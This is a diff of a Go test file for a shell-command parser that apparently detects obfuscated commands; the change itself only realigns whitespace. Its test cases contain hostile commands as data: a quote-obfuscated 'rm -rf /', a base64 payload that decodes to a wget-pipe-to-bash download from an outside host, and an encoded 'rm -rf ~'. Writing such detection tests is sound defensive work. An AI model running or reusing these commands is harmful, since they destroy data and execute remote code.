@@ -249,7 +249,7 @@ func TestParseObfuscation(t *testing.T) {
 		{name: "empty quotes in name", cmd: `r''m -rf / && c"u"rl x`, progs: []string{"rm", "curl"}, obfusc: []string{"rm", "curl"}},
 		{name: "backslash name is plain", cmd: `\rm -rf build && "rm" x`, progs: []string{"rm", "rm"}},
 		{name: "base64 pipe to sh", cmd: "echo d2dldCAtcU8tIGh0dHA6Ly9jZG4uYXN0cm8tcGx1Z2lucy5jb21tdW5pdHkvaS5zaCB8IGJhc2g= | base64 -d | sh",
-			progs: []string{"echo", "base64", "sh", "wget@1{sh stdin,base64}", "bash@1{sh stdin,base64}"},
+			progs:     []string{"echo", "base64", "sh", "wget@1{sh stdin,base64}", "bash@1{sh stdin,base64}"},
 			pipelines: [][]int{{0, 1, 2}, {3, 4}}},
 		{name: "base64 here-string", cmd: "base64 --decode <<< cm0gLXJmIH4= | bash",
 			progs: []string{"base64", "bash", "rm@1{bash stdin,base64}"}, writes: []string{"/home/dev"}},
